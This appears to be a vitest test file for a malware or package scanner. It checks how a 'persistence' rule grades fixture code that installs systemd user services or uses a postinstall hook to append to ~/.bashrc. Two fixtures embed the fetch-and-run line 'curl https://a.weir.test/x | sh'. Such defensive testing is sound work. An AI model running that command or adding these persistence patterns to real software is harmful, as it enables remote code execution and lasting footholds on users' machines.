import { expect, test } from 'vitest';
import { wheel } from '../samples-kit.ts';
import { analyzeSample, describeSamples } from '../testing/samples-suite.ts';
import { samples } from './samples.ts';

describeSamples('persistence', samples);

/** Severities of a service that a function makes, by the name of its file and what stands before and behind it. */
async function severities(name: string, before: string, behind: string): Promise<string[]> {
  const source = `${before}import subprocess\nfrom pathlib import Path\ndef install(title, command):\n    path = Path.home() / ".config/systemd/user" / ${name}\n    path.write_text("[Service]\\nExecStart=" + command)\n    subprocess.run(["systemctl", "--user", "enable", path.name])\n${behind}`;
  const { findings } = await analyzeSample({ name: 'service', files: wheel(source), expected: [] });
  return [
    ...new Set(findings.flatMap(({ rule, severity }) => (rule === 'persistence/autostart' ? severity : []))),
  ];
}

const TOOL =
  'def main():\n    parser = argparse.ArgumentParser()\n    parser.add_argument("title")\n    given = parser.parse_args()\n    install(given.title, given.title)\n';

test('a service that somebody orders at the command line, by its name, is little', async () => {
  expect(await severities('f"{title}.service"', 'import argparse\n', TOOL)).toEqual(['low']);
});

test('a service that a library makes is its author’s', async () => {
  expect(await severities('f"{title}.service"', '', '')).toEqual(['high']);
  expect(await severities('"own.service"', 'import argparse\n', TOOL)).toContain('high');
  const starts = 'LINE = "curl https://a.weir.test/x | sh"\n';
  expect(await severities('f"{title}.service"', `import argparse\n${starts}`, TOOL)).toEqual(['high']);
});

const AWAY =
  'def remove(title):\n    (Path.home() / ".config/systemd/user" / "own.service").unlink()\n    subprocess.run(["systemctl", "--user", "disable", "own.service"])\n';

test('a service that a library takes away again when it is asked to is little', async () => {
  expect(await severities('"own.service"', '', AWAY)).toEqual(['low']);
});

test('a service is not little because only one half of it is taken away, or when it fetches what it starts', async () => {
  const [, deletes = '', disables = ''] = AWAY.split('\n');
  expect(await severities('"own.service"', '', `def remove():\n${deletes}\n`)).toContain('high');
  expect(await severities('"own.service"', '', `def remove():\n${disables}\n`)).toContain('high');
  const starts = 'LINE = "curl https://a.weir.test/x | sh"\n';
  expect(await severities('"own.service"', starts, AWAY)).toEqual(['high']);
});

/** Severities of a start-up file that a function of a command line writes, which a hook loads with that many others. */
async function startupOf(count: number, starts: string): Promise<string[]> {
  const names = Array.from({ length: count }, (_, at) => `lib/m${at}.js`);
  const files = {
    'package.json': JSON.stringify({
      name: 'own',
      version: '1.0.0',
      scripts: { postinstall: 'node hook.js' },
    }),
    'hook.js': `const all = [${names.map((name) => `require('./${name}')`).join(', ')}];\nconst { complete } = require('./completion.js');\nexports.all = all;\nexports.complete = complete;\n${starts}`,
    'completion.js':
      "const fs = require('fs'), os = require('os');\nexports.complete = () => fs.appendFileSync(os.homedir() + '/.bashrc', '. own.sh');\n",
    ...Object.fromEntries(names.map((name, at) => [name, `exports.m = ${at};\n`])),
  };
  const { findings } = await analyzeSample({ name: 'startup', files, expected: [] });
  return findings.flatMap(({ rule, severity }) => (rule === 'persistence/startup' ? severity : []));
}

test('a start-up file that a hook loads the code for, among more files than are followed, counts less', async () => {
  expect(await startupOf(90, 'console.log(complete.name);\n')).toEqual(['medium']);
  expect(await startupOf(10, 'console.log(complete.name);\n')).toEqual(['high']);
  expect(await startupOf(90, 'complete();\n')).toEqual(['high']);
});
